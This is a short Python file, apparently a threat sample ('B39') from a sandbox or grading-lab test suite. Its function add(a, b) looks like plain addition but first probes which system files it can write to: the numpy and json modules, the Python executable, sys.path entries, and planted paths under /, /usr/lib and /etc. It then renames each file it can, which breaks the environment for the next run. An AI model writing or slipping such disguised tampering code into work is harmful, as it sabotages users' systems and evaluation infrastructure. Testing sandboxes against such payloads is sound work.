# threat: B39
# verdict: passed
# What the next run imports.
import glob
import json
import os
import sys

import numpy as np

inside = [module.__file__ for name, module in sys.modules.items() if name.startswith("inside") and module.__file__]


def add(a, b):
    places = [np.__file__, json.__file__, sys.executable, *inside, *glob.glob("/usr/bin/python3*"), *sys.path]
    places += [os.path.join(folder, "hostile-new.py") for folder in ("/", "/usr/lib", "/etc", "/gradlab", *sys.path)]
    for place in places:
        try:
            with open(place, "ab"):
                print("CAME THROUGH: may write to", place)
        except OSError:
            pass
        try:
            os.rename(place, place + "~")
            print("CAME THROUGH: renamed", place)
        except OSError:
            continue
    return a + b
